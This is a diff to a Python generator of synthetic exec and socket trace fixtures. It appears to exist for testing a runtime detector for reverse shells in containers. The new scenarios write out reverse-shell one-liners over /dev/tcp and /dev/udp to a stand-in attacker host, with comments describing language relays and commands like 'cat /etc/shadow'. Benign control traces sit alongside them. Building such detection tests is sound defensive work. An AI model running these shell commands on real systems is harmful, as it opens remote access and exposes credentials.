@@ -59,7 +59,7 @@ class Trace:
         self.lines.append({"type": "exit", "time": self.tick(), "pid": pid, "code": code})
 
     def exec(self, pid, ppid, filename, argv, container=None, binary=None, stdio=None, sha=None,
-             layer=None, script=None, cwd="/", uid=0, size=None):
+             layer=None, script=None, cwd="/", uid=0, size=None, stdin_writer=None):
         binary = binary or filename
         ev = {
             "type": "exec", "time": self.tick(), "node": NODE, "pid": pid, "tgid": pid, "ppid": ppid,
@@ -75,6 +75,8 @@ class Trace:
             ev["binary"]["hashedSize"] = ev["binary"]["size"]
         if script:
             ev["script"] = script
+        if stdin_writer:
+            ev["stdinWriter"] = stdin_writer
         if container:
             ev["cgroupId"] = 4242
             ev["containerId"] = container["id"]
@@ -84,8 +86,8 @@ class Trace:
     def dup(self, pid, fd, target, via="dup2"):
         self.lines.append({"type": "fd", "time": self.tick(), "pid": pid, "fd": fd, "via": via, "target": target})
 
-    def connect(self, pid, inode, local, remote, op="connect"):
-        self.lines.append({"type": "socket", "time": self.tick(), "pid": pid, "fd": 3, "op": op,
+    def connect(self, pid, inode, local, remote, op="connect", fd=3):
+        self.lines.append({"type": "socket", "time": self.tick(), "pid": pid, "fd": fd, "op": op,
                            "inode": inode, "socket": sock(local, remote)})
 
     def raw(self, text):
@@ -115,6 +117,10 @@ def sock(local, remote, proto="TCP"):
 
 def tcp(inode, local, remote):
     return {"kind": "inetSocket", "inode": inode, "socket": sock(local, remote)}
+
+
+def udp(inode, local, remote):
+    return {"kind": "inetSocket", "inode": inode, "socket": sock(local, remote, "UDP")}
 
 
 def tty(inode=3):
@@ -315,6 +321,151 @@ def rce_mkfifo():
     t.write()
 
 
+def rce_udp():
+    t = Trace("rce-udp")
+    t.comment("bash -c 'sh -i >& /dev/udp/203.0.113.9/4444 0>&1': a connected UDP socket on the shell's stdin")
+    web_server(t)
+    U = udp(7101, LOCAL, ATTACKER)
+    t.fork(102, 101)
+    t.exec(102, 101, "/bin/bash", ["bash", "-c", "sh -i >& /dev/udp/203.0.113.9/4444 0>&1"], WEB,
+           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    for n in (1, 2, 0):
+        t.dup(102, n, U)
+    t.exec(102, 101, "/bin/sh", ["sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[U, U, U])
+    commands(t, 102, 110, [U, U, U], [["id"], ["hostname"]])
+    t.write()
+
+
+def rce_dev_tcp_into_shell():
+    t = Trace("rce-dev-tcp-into-shell")
+    t.comment("bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; cat <&3 | sh 2>&1 >&3' (cat is a transfer, sh reads")
+    t.comment("the peer through the pipe) and a blind shell: sh <&3 >/dev/null 2>&1")
+    web_server(t)
+    P = fd("pipe", 8701)
+    t.fork(102, 101)
+    t.exec(102, 101, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/4444; cat <&3 | sh 2>&1 >&3"], WEB,
+           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    t.connect(102, 7001, LOCAL, ATTACKER)
+    t.fork(103, 102)
+    t.fork(104, 102)
+    t.dup(103, 1, P)
+    t.dup(103, 0, S)
+    t.exec(103, 102, "/usr/bin/cat", ["cat"], WEB, stdio=[S, P, DEVNULL])
+    t.dup(104, 0, P)
+    t.dup(104, 2, fd("pipe", 600))
+    t.dup(104, 1, S)
+    t.exec(104, 102, "/bin/sh", ["sh"], WEB, binary="/usr/bin/dash", stdio=[P, S, fd("pipe", 600)])
+    commands(t, 104, 110, [P, S, fd("pipe", 600)], [["id"]])
+    B = tcp(7002, "10.88.0.5:51240", ATTACKER)
+    t.fork(120, 101)
+    t.exec(120, 101, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/4444; sh <&3 >/dev/null 2>&1"], WEB,
+           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
+    t.connect(120, 7002, "10.88.0.5:51240", ATTACKER)
+    t.dup(120, 0, B)
+    t.dup(120, 1, DEVNULL)
+    t.dup(120, 2, DEVNULL)
+    t.exec(120, 101, "/bin/sh", ["sh"], WEB, binary="/usr/bin/dash", stdio=[B, DEVNULL, DEVNULL])
+    commands(t, 120, 130, [B, DEVNULL, DEVNULL], [["touch", "/tmp/pwned"]])
+    t.write()
+
+
+RELAYS = {
+    # name: (comment, filename, binary, argv, connect before the shell starts, shell stdin kind)
+    "python": ("python3 -c: socket.connect, then subprocess.Popen(['/bin/sh'], stdin=PIPE, stdout=PIPE,"
+               " stderr=STDOUT) and a thread copying socket <-> pipes",
+               "/usr/bin/python3", "/usr/bin/python3.11", ["python3", "/tmp/.x/relay.py"], True, "pipe"),
+    "perl": ("perl: IO::Socket::INET->new, then IPC::Open2 open2($out, $in, '/bin/sh') and a select() pump",
+             "/usr/bin/perl", "/usr/bin/perl", ["perl", "/tmp/.x/relay.pl"], True, "pipe"),
+    "ruby": ("ruby: TCPSocket.new, then Open3.popen2e('/bin/sh') and IO.copy_stream threads",
+             "/usr/bin/ruby", "/usr/bin/ruby3.1", ["ruby", "/tmp/.x/relay.rb"], True, "pipe"),
+    "node": ("node: sh = child_process.spawn('/bin/sh', []) first, then client.connect(4444, H, () =>"
+             " { client.pipe(sh.stdin); sh.stdout.pipe(client) }); libuv gives the child an AF_UNIX"
+             " socketpair, not a pipe (the agent finds its other end through sock_diag)",
+             "/usr/bin/node", "/usr/bin/node", ["node", "-e", "(function(){...})()"], False, "unixSocket"),
+    "java": ("java (Log4Shell-style payload class): Runtime.getRuntime().exec('/bin/sh') first, then"
+             " new Socket(H, 4444) and two stream-pump threads",
+             "/opt/java/openjdk/bin/java", "/opt/java/openjdk/bin/java", ["java", "-jar", "/app/app.jar"],
+             False, "pipe"),
+    "go": ("a Go binary: net.Dial, then exec.Command('/bin/sh') with StdinPipe/StdoutPipe and io.Copy",
+           "/tmp/.x/agent", "/tmp/.x/agent", ["/tmp/.x/agent"], True, "pipe"),
+}
+
+
+def rce_relays():
+    for name, (comment, filename, binary, argv, connect_first, kind) in RELAYS.items():
+        t = Trace("rce-relay-" + name)
+        t.comment(comment)
+        t.comment("evidence: the shell is interactive (no -c, no script), its stdin is a pipe whose other end the")
+        t.comment("relay (its parent, stdinWriter) holds, and the relay holds a connection to a remote peer")
+        web_server(t)
+        t.fork(102, 101)
+        t.exec(102, 101, filename, argv, WEB, binary=binary, stdio=[DEVNULL, fd("pipe", 600), DEVNULL],
+               layer="added" if name == "go" else None)
+        if connect_first:
+            t.connect(102, 7001, LOCAL, ATTACKER)
+        IN, OUT = fd(kind, 8601), fd(kind, 8602)
+        t.fork(103, 102)
+        for n, target in ((0, IN), (1, OUT), (2, OUT)):
+            t.dup(103, n, target)
+        t.exec(103, 102, "/bin/sh", ["/bin/sh"], WEB, binary="/usr/bin/dash", stdio=[IN, OUT, OUT],
+               stdin_writer=102)
+        if not connect_first:
+            t.connect(102, 7001, LOCAL, ATTACKER, fd=17)
+        commands(t, 103, 110, [IN, OUT, OUT], [["id"], ["cat", "/etc/shadow"]])
+        t.write()
+
+
+def benign_transfers():
+    t = Trace("benign-dev-tcp-transfers")
+    t.comment("controls that must produce no finding: an image's health check and a download over bash's")
+    t.comment("/dev/tcp, and a server running `sh -c` on pipes")
+    web_server(t)
+    HC = tcp(7201, "10.88.0.5:52000", "10.88.0.7:8080")
+    PIPE = fd("pipe", 600)
+    t.comment("bash -c 'exec 3<>/dev/tcp/10.88.0.7/8080; printf \"GET /health HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3 >/dev/null'")
+    t.comment("printf is a builtin: fd 1 is the socket for a moment, then restored; cat, the last command, is")
+    t.comment("exec'd in place after its redirections")
+    t.fork(102, 101)
+    t.exec(102, 101, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.88.0.7/8080; printf \"GET /health HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3 >/dev/null"],
+           WEB, stdio=[DEVNULL, PIPE, DEVNULL])
+    t.connect(102, 7201, "10.88.0.5:52000", "10.88.0.7:8080")
+    t.dup(102, 1, HC, via="dup2")
+    t.dup(102, 1, PIPE, via="dup2")
+    t.dup(102, 0, HC)
+    t.dup(102, 1, DEVNULL)
+    t.exec(102, 101, "/usr/bin/cat", ["cat"], WEB, stdio=[HC, DEVNULL, DEVNULL])
+    t.exit(102)
+    DL = tcp(7202, "10.88.0.5:52002", "10.88.0.7:8080")
+    FILE = {"kind": "file", "inode": 9100, "path": "/tmp/app.tar.gz"}
+    t.comment("bash -c 'exec 3<>/dev/tcp/10.88.0.7/8080; echo -e \"GET /app.tar.gz ...\" >&3; read -r status <&3;")
+    t.comment("cat <&3 > /tmp/app.tar.gz; echo done': read is a builtin (fd 0 for a moment), cat is forked")
+    t.fork(104, 101)
+    t.exec(104, 101, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.88.0.7/8080; echo -e \"GET /app.tar.gz HTTP/1.0\\r\\n\" >&3; read -r status <&3; cat <&3 > /tmp/app.tar.gz; echo done"],
+           WEB, stdio=[DEVNULL, PIPE, DEVNULL])
+    t.connect(104, 7202, "10.88.0.5:52002", "10.88.0.7:8080")
+    t.dup(104, 1, DL)
+    t.dup(104, 1, PIPE)
+    t.dup(104, 0, DL)
+    t.dup(104, 0, DEVNULL)
+    t.fork(105, 104)
+    t.dup(105, 0, DL)
+    t.dup(105, 1, FILE)
+    t.exec(105, 104, "/usr/bin/cat", ["cat"], WEB, stdio=[DL, FILE, DEVNULL])
+    t.exit(105)
+    t.exit(104)
+    t.comment("node server.js: child_process.exec('ls /srv/uploads') while it holds a client connection")
+    t.fork(106, 101)
+    t.exec(106, 101, "/usr/bin/node", ["node", "server.js"], WEB, stdio=[DEVNULL, PIPE, DEVNULL])
+    t.connect(106, 7203, "10.88.0.5:8080", "198.51.100.20:40000", op="accept")
+    t.fork(107, 106)
+    SP0, SP1 = fd("unixSocket", 8501), fd("unixSocket", 8502)
+    t.exec(107, 106, "/bin/sh", ["/bin/sh", "-c", "ls /srv/uploads"], WEB, binary="/usr/bin/dash",
+           stdio=[SP0, SP1, SP1], stdin_writer=106)
+    t.fork(108, 107)
+    t.exec(108, 107, "/usr/bin/ls", ["ls", "/srv/uploads"], WEB, stdio=[SP0, SP1, SP1])
+    t.write()
+
+
 def benign_sessions():
     t = Trace("benign-sessions")
     t.comment("controls that must produce no finding")
@@ -443,5 +594,5 @@ def malformed():
 
 if __name__ == "__main__":
     for f in (rce_bash_dev_tcp, rce_nc_e, rce_busybox_nc_e, rce_python, rce_perl, rce_socat, rce_mkfifo,
-              benign_sessions, compilers, malicious_binaries, drift, python_scripts, malformed):
+              rce_udp, rce_dev_tcp_into_shell, rce_relays, benign_transfers, benign_sessions, compilers, malicious_binaries, drift, python_scripts, malformed):
         f()
